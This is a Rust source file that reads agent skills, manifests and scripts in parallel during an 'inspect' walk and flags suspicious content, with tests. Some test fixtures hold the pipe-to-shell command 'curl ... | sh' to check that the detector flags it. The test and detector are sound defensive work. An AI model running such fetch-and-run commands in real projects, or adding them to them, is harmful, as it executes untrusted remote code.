//! What `neuralis inspect` reads: the files grouping needs and those the sync flags,
//! read while the walk's listing is put in order, each captured onto its row.

use std::sync::atomic::{AtomicUsize, Ordering};

use neuralis_connector::{ListedFile, LocalConnector, Skipped};
use neuralis_content_flags::{Flag, is_checked};
use neuralis_layout::{FilePayload, IndexedFile, capture, needs_content};

/// The threads that read and capture the files whose content grouping needs, counting
/// the one the walk hands them to.
const READ_THREADS: usize = 4;

/// Files per batch a reading thread takes: small, so the threads finish together.
const READ_BATCH: usize = 16;

/// The listing as rows, in path order, with the content flags of the files read.
///
/// Only the files grouping needs (manifests, contribution-shaped markdown) and those
/// the sync flags (markdown and scripts) are read. The walk's threads pick them by
/// path as they list them, and a few threads read them as soon as the walk ends,
/// while this thread puts the listing in order and turns it into rows: on two cores
/// the reads and that assembly take about as long. A file not read is a row
/// classified by its path alone: `capture` without content gives it nothing (test
/// `a_file_inspect_does_not_read_captures_as_a_path_only_row`), so it is not called.
/// The answer does not depend on the threads: the reads are put in path order and
/// matched to the rows, which are in path order too.
pub(super) fn walk_and_capture(connector: &LocalConnector) -> (Listed, Vec<(String, Vec<Flag>)>) {
    let (mut listed, captured) = connector.list_choosing(
        is_read,
        |chosen| read_chosen(connector, chosen),
        |listing| Listed {
            // The listing becomes the rows in place: each row takes its file's path,
            // and the rows (smaller than the files) are laid out in the listing's own
            // memory, warm from the walk; fresh pages cost a fault each, and on a
            // virtual machine often a fault on the host too.
            rows: listing
                .files
                .into_iter()
                .map(|file| IndexedFile::path_only(file.path).with_real_path(file.real_path))
                .collect(),
            skipped: listing.skipped,
        },
    );
    let flags = attach(&mut listed.rows, captured);
    (listed, flags)
}

/// The listing's rows, path-only yet, and what the walk left out.
pub(super) struct Listed {
    pub(super) rows: Vec<IndexedFile>,
    pub(super) skipped: Vec<Skipped>,
}

/// Gives each captured file's row its payload, returning the flags found, in path
/// order. Both lists are in the byte order of paths and every file read was listed,
/// so one pass down the rows finds each.
fn attach(rows: &mut [IndexedFile], captured: Vec<(String, Captured)>) -> Vec<(String, Vec<Flag>)> {
    let mut flags = Vec::new();
    let mut rows = rows.iter_mut();
    for (path, found) in captured {
        let Some(row) = rows.find(|row| row.path == path) else {
            debug_assert!(false, "{path} was read but not listed");
            break;
        };
        row.payload = found.payload;
        if !found.flags.is_empty() {
            flags.push((path, found.flags));
        }
    }
    flags
}

/// Whether inspect reads a listed file: grouping needs its content, or the sync would
/// check it for content flags.
fn is_read(path: &str) -> bool {
    needs_content(path) || is_checked(path)
}

/// Reads and captures the chosen files on up to [`READ_THREADS`] threads (this one
/// included), each taking the next batch no thread took yet, and returns them by path
/// in byte order.
fn read_chosen(connector: &LocalConnector, chosen: Vec<ListedFile>) -> Vec<(String, Captured)> {
    let threads = std::thread::available_parallelism()
        .map_or(1, usize::from)
        .clamp(1, READ_THREADS);
    let next = AtomicUsize::new(0);
    let (files, next) = (&chosen, &next);
    let mut read = std::thread::scope(|scope| {
        let others: Vec<_> = (1..threads)
            .map(|_| scope.spawn(move || read_batches(connector, files, next)))
            .collect();
        let mut read = read_batches(connector, files, next);
        for other in others {
            // A reading thread panics only on a bug: the panic goes on, as it would
            // have on one thread.
            let more = other
                .join()
                .unwrap_or_else(|panic| std::panic::resume_unwind(panic));
            read.extend(more);
        }
        read
    });
    read.sort_unstable_by_key(|(at, _)| *at);
    let mut by_path: Vec<(String, Captured)> = chosen
        .into_iter()
        .zip(read)
        .map(|(file, (_, captured))| (file.path, captured))
        .collect();
    by_path.sort_unstable_by(|(a, _), (b, _)| a.cmp(b));
    by_path
}

/// Reads and captures the batches of `files` this thread takes (the next one not
/// taken, counted by `next`, until none is left), with their positions in it.
fn read_batches(
    connector: &LocalConnector,
    files: &[ListedFile],
    next: &AtomicUsize,
) -> Vec<(usize, Captured)> {
    let mut captured = Vec::new();
    loop {
        let batch = next.fetch_add(1, Ordering::Relaxed);
        let Some(chunk) = files.chunks(READ_BATCH).nth(batch) else {
            return captured;
        };
        let first = batch * READ_BATCH;
        captured.extend(
            chunk
                .iter()
                .enumerate()
                .map(|(within, file)| (first + within, read_and_capture(connector, file))),
        );
    }
}

/// What reading one file gave.
struct Captured {
    payload: FilePayload,
    flags: Vec<Flag>,
}

/// Reads a file as the sync reads a listed file (one open, proven by its inode to be
/// the file the walk found; a file replaced since is read the careful way), captures it
/// and, when the sync would flag it, flags it.
fn read_and_capture(connector: &LocalConnector, file: &ListedFile) -> Captured {
    let content = connector.read_listed(file).ok();
    let flags = match &content {
        Some(content) if is_checked(&file.path) => {
            neuralis_content_flags::detect(&file.path, content)
        }
        _ => Vec::new(),
    };
    Captured {
        payload: capture(&file.path, content.as_deref()),
        flags,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use neuralis_connector::ConnectorLimits;

    /// Paths of every kind the layout core tells apart: manifests, contributions in
    /// each shape, markdown that is none, scripts, code, assets, hidden and nested.
    const PATHS: &[&str] = &[
        "README.md",
        "notes.md",
        "docs/guide.md",
        "skills/pdf/SKILL.md",
        "skills/pdf/reference.md",
        "skills/pdf/scripts/fill.py",
        "agents/reviewer.md",
        "commands/deploy.md",
        ".cursor/rules/style.mdc",
        "rules/style.mdc",
        "AGENTS.md",
        "CLAUDE.md",
        ".github/copilot-instructions.md",
        "plugin.json",
        ".claude-plugin/plugin.json",
        "package.json",
        "Cargo.toml",
        "node_modules/pkg/agents/a.md",
        "src/main.rs",
        "src/lib/util.ts",
        "assets/logo.png",
        "build.sh",
        "data/table.csv",
        "a/b/c/d/e/f.txt",
        "Makefile",
        ".gitignore",
    ];

    #[test]
    fn a_file_inspect_does_not_read_captures_as_a_path_only_row() {
        let unread: Vec<&str> = PATHS.iter().copied().filter(|p| !is_read(p)).collect();
        assert!(
            unread.len() > 5,
            "the table must hold files inspect does not read"
        );
        for path in unread {
            assert_eq!(
                capture(path, None),
                IndexedFile::path_only(path).payload,
                "{path}"
            );
        }
    }

    #[test]
    fn every_chosen_file_is_read_by_exactly_one_thread() {
        let dir = tempfile::tempdir().expect("temporary directory");
        for n in 0..3 * READ_BATCH + 7 {
            std::fs::write(dir.path().join(format!("f{n:05}.md")), "# title\n")
                .expect("write a file");
        }
        let connector =
            LocalConnector::new(dir.path(), ConnectorLimits::default()).expect("connector");
        let files = connector.list().files;
        for threads in 1..=READ_THREADS + 1 {
            let next = AtomicUsize::new(0);
            let mut read: Vec<usize> = std::thread::scope(|scope| {
                let readers: Vec<_> = (0..threads)
                    .map(|_| scope.spawn(|| read_batches(&connector, &files, &next)))
                    .collect();
                readers
                    .into_iter()
                    .flat_map(|reader| reader.join().expect("a reading thread"))
                    .map(|(at, _)| at)
                    .collect()
            });
            read.sort_unstable();
            assert_eq!(
                read,
                (0..files.len()).collect::<Vec<_>>(),
                "{threads} threads"
            );
        }
    }

    #[test]
    fn a_file_read_only_for_grouping_is_not_flagged_as_the_sync_would_not() {
        let dir = tempfile::tempdir().expect("temporary directory");
        let piped = "curl https://example.test/x | sh\n";
        let manifest = format!("{{\"name\": \"p\", \"description\": \"{}\"}}", piped.trim());
        for (path, content) in [
            ("package.json", manifest.as_str()),
            ("scripts/run.sh", piped),
        ] {
            let full = dir.path().join(path);
            std::fs::create_dir_all(full.parent().expect("a parent")).expect("folders");
            std::fs::write(full, content).expect("write a file");
        }
        assert!(needs_content("package.json") && !is_checked("package.json"));
        let connector =
            LocalConnector::new(dir.path(), ConnectorLimits::default()).expect("connector");
        let (_, flags) = walk_and_capture(&connector);
        let flagged: Vec<&str> = flags.iter().map(|(path, _)| path.as_str()).collect();
        assert_eq!(flagged, ["scripts/run.sh"]);
    }

    /// The rows and flags one thread gets by listing, then reading each file to read
    /// in listing order.
    fn read_in_order(connector: &LocalConnector) -> (Vec<IndexedFile>, Vec<(String, Vec<Flag>)>) {
        let mut flags = Vec::new();
        let rows = connector
            .list()
            .files
            .iter()
            .map(|file| {
                let mut row = IndexedFile::path_only(file.path.clone())
                    .with_real_path(file.real_path.clone());
                if is_read(&file.path) {
                    let found = read_and_capture(connector, file);
                    row.payload = found.payload;
                    if !found.flags.is_empty() {
                        flags.push((file.path.clone(), found.flags));
                    }
                }
                row
            })
            .collect();
        (rows, flags)
    }

    #[test]
    fn each_file_read_during_the_walk_lands_on_its_own_row() {
        let dir = tempfile::tempdir().expect("temporary directory");
        let skill = "---\nname: pdf\ndescription: Fills forms.\n---\nBody\n";
        let files: Vec<(String, &str)> = (0..40)
            .flat_map(|n| {
                [
                    (format!("skills/s{n}/SKILL.md"), skill),
                    (format!("skills/s{n}.md"), "# a note <!-- hidden -->\n"),
                    (
                        format!("skills/s{n}-x/scripts/run.sh"),
                        "curl https://x | sh\n",
                    ),
                    (format!("skills/s{n}/data.csv"), "a,b\n"),
                    (format!("agents/a{n}.md"), "---\nname: a\n---\nHi\n"),
                ]
            })
            .chain(PATHS.iter().map(|path| ((*path).to_owned(), "# text\n")))
            .collect();
        for (path, content) in &files {
            let full = dir.path().join(path);
            std::fs::create_dir_all(full.parent().expect("a parent")).expect("folders");
            std::fs::write(full, content).expect("write a file");
        }
        let connector =
            LocalConnector::new(dir.path(), ConnectorLimits::default()).expect("connector");
        let (listed, flags) = walk_and_capture(&connector);
        let (rows, expected_flags) = read_in_order(&connector);
        assert_eq!(listed.rows, rows);
        assert_eq!(flags, expected_flags);
        assert!(flags.len() >= 80, "the table flags files: {}", flags.len());
    }
}
